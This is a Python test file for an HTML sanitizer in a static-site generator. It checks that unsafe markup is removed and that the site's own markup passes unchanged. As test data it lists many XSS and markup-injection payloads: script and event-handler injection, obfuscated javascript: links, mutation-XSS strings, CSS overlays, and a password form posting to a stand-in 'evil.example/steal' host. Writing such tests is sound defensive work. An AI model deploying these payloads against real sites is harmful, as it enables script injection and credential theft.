"""The HTML guard (generator/check/html_guard.py): removes each kind of unsafe markup, and
never changes the example site's pages (our chart and footnote markup passes untouched)."""

from __future__ import annotations

from pathlib import Path

import markdown
import pytest
import yaml
from bs4 import BeautifulSoup

from generator.check.html_guard import guard_html, problems
from tests.conftest import REPO, copy_project, run_explainer

SAFE_TAIL = '<p>after <a href="#fn:1">1</a></p>'

# (attack, what must be gone from the output)
ATTACKS = {
    "event-attribute": ('<p onclick="alert(1)">x</p>', "onclick"),
    "event-attribute-upper": ('<img src="a.png" ONERROR="alert(1)">', "onerror"),
    "script": ("<script>alert(1)</script>", "alert"),
    "script-unclosed": ("<p>x</p><script>alert(1)", "alert"),
    "style-element": ("<style>body{background:url(https://evil.example/x)}</style>", "evil"),
    "style-attribute": ('<p style="background:url(https://evil.example/x)">x</p>', "evil"),
    "svg": ('<svg onload="alert(1)"><circle/><svg><script>alert(2)</script></svg></svg>',
            "alert"),
    "iframe": ('<iframe src="https://evil.example/"></iframe>', "evil"),
    "object": ('<object data="https://evil.example/x.swf"></object>', "evil"),
    "embed": ('<embed src="https://evil.example/x.swf">', "evil"),
    "base": ('<base href="https://evil.example/">', "evil"),
    "meta-refresh": ('<meta http-equiv="refresh" content="0;url=https://evil.example/">',
                     "evil"),
    "link-stylesheet": ('<link rel="stylesheet" href="https://evil.example/x.css">', "evil"),
    "javascript-href": ('<a href="javascript:alert(1)">x</a>', "javascript"),
    "javascript-href-case": ('<a href="JaVaScRiPt:alert(1)">x</a>', "alert"),
    "javascript-href-space": ('<a href=" javascript:alert(1)">x</a>', "alert"),
    "javascript-href-entity": ('<a href="&#106;avascript:alert(1)">x</a>', "alert"),
    "javascript-href-tab": ('<a href="java&#9;script:alert(1)">x</a>', "alert"),
    "data-href": ('<a href="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;">x</a>',
                  "data:"),
    "vbscript-href": ('<a href="vbscript:msgbox(1)">x</a>', "vbscript"),
    "off-site-img": ('<img src="https://evil.example/p.png" alt="">', "evil"),
    "protocol-relative-img": ('<img src="//evil.example/p.png" alt="">', "evil"),
    "off-site-srcset": ('<picture><source srcset="a.svg, https://evil.example/b.svg 2x">'
                        '<img src="a.svg" alt=""></picture>', "evil"),
    # html.parser reads these differently from a browser; the HTML5 check catches them.
    "abrupt-comment": ('<!--> <img src=x onerror="alert(1)"> -->', "onerror"),
    "math-style-mutation": ("<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
                            "onerror"),
    "form-action": ('<form action="javascript:alert(1)"><button formaction="javascript:x">'
                    "go</button></form>", "javascript"),
    # round three (issue 20): CSS that fetches or overlays, forms, pings, data-* addresses
    "image-set": ('<p style="background-image:image-set(\'https://evil.example/a.png\' 1x)">x'
                  "</p>", "evil"),
    "webkit-image-set": ('<p style="background:-webkit-image-set(url(//evil.example/b.png) 1x)">'
                         "x</p>", "evil"),
    "fixed-overlay": ('<div style="position:fixed;inset:0;z-index:9999;background-color:#fff">'
                      "Log in</div>", "fixed"),
    "absolute-overlay": ('<div style="position: absolute; top: 0; left: 0; width: 100%">x</div>',
                         "absolute"),
    "sticky-overlay": ('<div style="position:sticky;top:0">x</div>', "sticky"),
    "z-index": ('<div style="z-index: 99">x</div>', "z-index"),
    "negative-margin": ('<div style="margin-top: -400px">x</div>', "-400px"),
    "var-url": ('<p style="color: var(--md-x)">x</p>', "var("),
    "css-escape": ('<p style="color: re\\64">x</p>', "\\64"),
    "password-form": ('<form action="https://evil.example/steal" method="post">'
                      '<input type="password" name="p"><button>Sign in</button></form>',
                      "password"),
    "textarea": ("<textarea>Type your password</textarea>", "password"),
    "select": ('<select name="s"><option>evil</option></select>', "evil"),
    "ping": ('<a href="#x" ping="https://evil.example/p">x</a>', "evil"),
    "attributionsrc": ('<a href="#x" attributionsrc="https://evil.example/a">x</a>', "evil"),
    "attributionsrc-bare": ('<img src="a.png" alt="" attributionsrc>', "attributionsrc"),
    "popover": ('<div popover id="p">x</div><a popovertarget="p">y</a>', "popover"),
    "data-url": ('<figure class="explainer-chart" data-figure="https://evil.example/f.json" '
                 'data-plotly="//evil.example/p.js"></figure>', "evil"),
    "data-javascript": ('<div data-href=" javascript:alert(1)">x</div>', "javascript"),
    "dialog": ("<dialog open>Your session ended</dialog>", "session"),
}


@pytest.mark.parametrize("name", sorted(ATTACKS))
def test_guard_removes_each_kind(name: str) -> None:
    attack, gone = ATTACKS[name]
    result = guard_html(f"<p>before</p>\n{attack}\n{SAFE_TAIL}")
    assert result.removed, name
    assert gone.lower() not in result.html.lower(), result.html
    assert "<p>before</p>" in result.html
    if name not in ("script-unclosed", "math-style-mutation"):  # these run to the page's end
        assert result.html.endswith(SAFE_TAIL), result.html
    assert problems(result.html) == [], "what is left passes the HTML5 check"


ALLOWED = [
    '<p><a href="https://example.org/a_(b)?q=1&amp;r=2">x</a> <a href="http://x.example/">y</a></p>',
    '<p><a href="../facts/#fact_id">f</a> <a href="#fn:1">1</a> <a href="sources.md">s</a></p>',
    '<sup id="fnref:1"><a class="footnote-ref" href="#fn:1">1</a></sup>',
    '<div class="footnote"><hr /><ol><li id="fn:1"><p>T.&#160;<a class="footnote-backref" '
    'href="#fnref:1" title="Jump back to footnote 1 in the text">&#8617;</a></p></li></ol></div>',
    '<picture><source media="(max-width: 560px)" srcset="../charts/a.svg">'
    '<img src="../charts/b.svg" alt="" width="720" height="405" decoding="async"></picture>',
    '<p>text &lt;script&gt;alert(1)&lt;/script&gt; shown as text</p>',
    "<pre><code>&lt;svg onload=alert(1)&gt;\n</code></pre>",
    '<time datetime="2023-10-05">Oct. 5, 2023</time><br>',
    # Python-Markdown's table alignment, and plain styles from the allow-list
    '<table><thead><tr><th style="text-align: left;">a</th><th style="text-align: right;">b'
    "</th></tr></thead></table>",
    '<p style="color: #c00; font-weight: bold; margin: 0 1em; max-width: 40rem">x</p>',
    '<figure class="explainer-chart" data-chart="c" data-figure="../charts/c.json" '
    'data-plotly="../charts/plotly-basic-4.1.1.min.js" data-static="1"></figure>',
    '<td data-series="Total: all" data-value="12">12</td>',
]


# A page's end that would swallow the template's markup after it: (tail, what must be gone)
OPEN_ENDS = {
    "incomplete-tag": ("<div><img src=x onerror=alert(1)//", "onerror"),
    "unclosed-attribute": ('<p>Pay <img src="https://evil.example/?', "evil"),
    "unclosed-single-quote": ("<p><a title='x", "title"),
    "open-comment": ("<!-- the rest of the page", None),
    "open-textarea": ("<textarea>", "textarea"),
    "open-title": ("<title>", "title"),
    "open-xmp": ("<xmp>", "xmp"),
    "open-plaintext": ("<plaintext>", "plaintext"),
    "open-noembed": ("<noembed>", "noembed"),
    "open-noframes": ("<noframes>", "noframes"),
}
TEMPLATE_AFTER = '</div></article><img src="../assets/logo.png" alt="x"><footer>f</footer>'


@pytest.mark.parametrize("name", sorted(OPEN_ENDS))
def test_page_ends_where_it_seems_to(name: str) -> None:
    """Attack: a tag, attribute, comment or raw-text element left open at the content's end,
    which in the published page would close on (or swallow) the template's markup. Observed:
    reported, and the guarded content followed by template markup parses with that markup as
    the template's own elements, and nothing of the attack left."""
    tail, gone = OPEN_ENDS[name]
    result = guard_html(f"<p>before</p>\n{tail}")
    assert result.removed and result.removed[-1].startswith("a tag, attribute"), result.removed
    assert "<p>before</p>" in result.html
    if gone:
        assert gone not in result.html, result.html
    assert problems(result.html) == []
    from selectolax.lexbor import LexborHTMLParser

    page = LexborHTMLParser(f"<div><article><div>{result.html}{TEMPLATE_AFTER}")
    assert [n.attributes for n in page.css("img")] == [{"src": "../assets/logo.png",
                                                        "alt": "x"}]
    assert page.css_first("footer") is not None


@pytest.mark.parametrize("html", ALLOWED)
def test_guard_leaves_our_markup_byte_for_byte(html: str) -> None:
    result = guard_html(html)
    assert result.removed == []
    assert result.html == html


def mkdocs_extensions() -> tuple[list[str], dict]:
    """The Markdown extensions mkdocs.yml configures, plus those the plugin requires."""
    from generator.adapters.mkdocs_plugin import REQUIRED_EXTENSIONS

    class Loader(yaml.SafeLoader):
        pass

    Loader.add_multi_constructor("!", lambda loader, suffix, node: None)
    config = yaml.load((REPO / "mkdocs.yml").read_text("utf-8"), Loader=Loader)
    names: list[str] = []
    configs: dict = {}
    for item in config["markdown_extensions"] + list(REQUIRED_EXTENSIONS):
        name, options = (next(iter(item.items())) if isinstance(item, dict) else (item, {}))
        if name not in names:
            names.append(name)
            configs[name] = options or {}
    return names, configs


def test_guard_never_changes_the_example_sites_pages() -> None:
    """Every generated page (charts and footnotes included), rendered with the site's Markdown
    extensions, passes the guard unchanged."""
    from generator.check.run import check_project
    from generator.render.site import generate_site

    project, diagnostics = check_project(REPO)
    assert not diagnostics.errors
    output = generate_site(project)
    names, configs = mkdocs_extensions()
    pages = [f for f in output.files if f.is_page]
    assert len(pages) >= 6
    figures = 0
    for page in pages:
        assert isinstance(page.content, str)
        html = markdown.markdown(page.content, extensions=names, extension_configs=configs)
        figures += html.count('<figure class="explainer-chart"')
        result = guard_html(html)
        assert result.removed == [], (page.path, result.removed)
        assert result.html == html
    assert figures >= 2, "the example's charts were checked too"


@pytest.mark.slow
def test_guard_runs_on_page_content_in_a_real_build(tmp_path: Path) -> None:
    """Wired into the build: a page with markup the guard removes fails the strict build with
    the page named, and a non-strict build publishes the page without it."""
    root = copy_project(tmp_path / "project")
    (root / "docs" / "embed.md").write_text(
        "# Embed\n\n<a href=\"javascript:alert(1)\">x</a> <img src=\"https://evil.example/p.png\""
        " alt=\"\">\n\nText stays.\n", "utf-8")
    result = run_explainer(root, "build")
    assert result.returncode == 1  # explainer check, run first, names the page at the tag
    assert "docs/embed.md:3:1: error: raw HTML <a href>" in result.stderr + result.stdout
    from tests.conftest import build_without_docs_check

    # The guard under the check: the strict build fails naming the page ...
    result = build_without_docs_check(root, tmp_path / "strict", "--strict")
    assert result.returncode == 1
    assert "removed unsafe HTML from embed.md" in result.stderr + result.stdout
    # ... and a non-strict build publishes the page without the markup.
    out = tmp_path / "out"
    done = build_without_docs_check(root, out, "--no-strict")
    assert done.returncode == 0, done.stderr
    doc = BeautifulSoup((out / "embed" / "index.html").read_text("utf-8"), "html.parser")
    article = doc.find("article")
    assert "Text stays." in article.get_text()
    assert not article.find_all("a", href=lambda h: h and "javascript" in h)
    assert not article.find_all("img", src=lambda s: s and "evil" in s)
